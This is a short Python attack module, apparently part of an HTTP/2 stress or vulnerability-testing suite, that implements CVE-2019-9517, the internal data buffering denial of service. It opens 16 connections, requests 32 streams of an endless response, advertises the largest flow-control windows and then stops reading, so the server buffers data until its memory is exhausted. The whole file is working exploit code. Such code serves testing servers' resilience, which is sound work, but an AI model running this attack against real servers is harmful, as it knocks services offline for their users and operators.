"""Endless responses of the application, on streams with the largest windows, on
connections that stop reading (CVE-2019-9517, internal data buffering)."""

import frames
from attack import Attack

ATTACK = Attack()
CONNECTIONS, STREAMS = 16, range(1, 64, 2)


async def run(target):
    asked = b"".join(frames.request(stream, frames.head(b"/endless")) for stream in STREAMS)
    opening = frames.opening({frames.INITIAL_WINDOW: 0x7FFFFFFF}) + frames.window_update(0, 0x7FFF0000)

    async def begin(_):
        reader, writer = await target.http2(opening + asked, receive=4096)
        writer.transport.pause_reading()
        return reader, writer

    opened = await target.many(CONNECTIONS, begin)
    await target.wait()
    return f"{len(opened)} connections with {len(STREAMS)} responses"
